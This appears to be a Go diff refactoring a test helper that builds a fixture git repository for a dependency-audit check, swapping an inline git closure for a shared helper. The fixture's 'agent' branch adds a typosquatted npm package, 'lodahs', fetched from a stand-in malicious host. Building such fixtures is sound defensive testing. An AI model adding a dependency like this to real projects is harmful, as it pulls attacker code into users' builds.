@@ -3,7 +3,6 @@ package cli
 import (
 	"context"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -14,6 +13,7 @@ import (
 	"github.com/symphony-go/symphony/internal/depaudit"
 	"github.com/symphony-go/symphony/internal/secretscan"
 	"github.com/symphony-go/symphony/internal/store"
+	"github.com/symphony-go/symphony/internal/testenv"
 )
 
 // typosquatBranch makes a repository whose "agent" branch adds an npm package from a
@@ -21,30 +21,19 @@ import (
 func typosquatBranch(t *testing.T) string {
 	t.Helper()
 	dir := t.TempDir()
-	git := func(args ...string) {
-		t.Helper()
-		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
-		defer cancel()
-		cmd := exec.CommandContext(ctx, "git", append([]string{"-C", dir}, args...)...)
-		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
-			"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com", "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir)
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
-		}
-	}
 	write := func(content string) {
 		t.Helper()
 		if err := os.WriteFile(filepath.Join(dir, "package.json"), []byte(content), 0o644); err != nil {
 			t.Fatal(err)
 		}
-		git("add", "package.json")
+		testenv.Git(t, dir, "add", "package.json")
 	}
-	git("init", "-q", "-b", "main")
+	testenv.Git(t, dir, "init", "-q", "-b", "main")
 	write("{\"dependencies\": {\n  \"left-pad\": \"^1.0.0\"\n}}\n")
-	git("commit", "-q", "-m", "base")
-	git("checkout", "-q", "-b", "agent")
+	testenv.Git(t, dir, "commit", "-q", "-m", "base")
+	testenv.Git(t, dir, "checkout", "-q", "-b", "agent")
 	write("{\"dependencies\": {\n  \"left-pad\": \"^1.0.0\",\n  \"lodahs\": \"https://npm.evil.example/lodahs/-/lodahs-1.0.0.tgz\"\n}}\n")
-	git("commit", "-q", "-m", "add lodahs")
+	testenv.Git(t, dir, "commit", "-q", "-m", "add lodahs")
 	return dir
 }
 
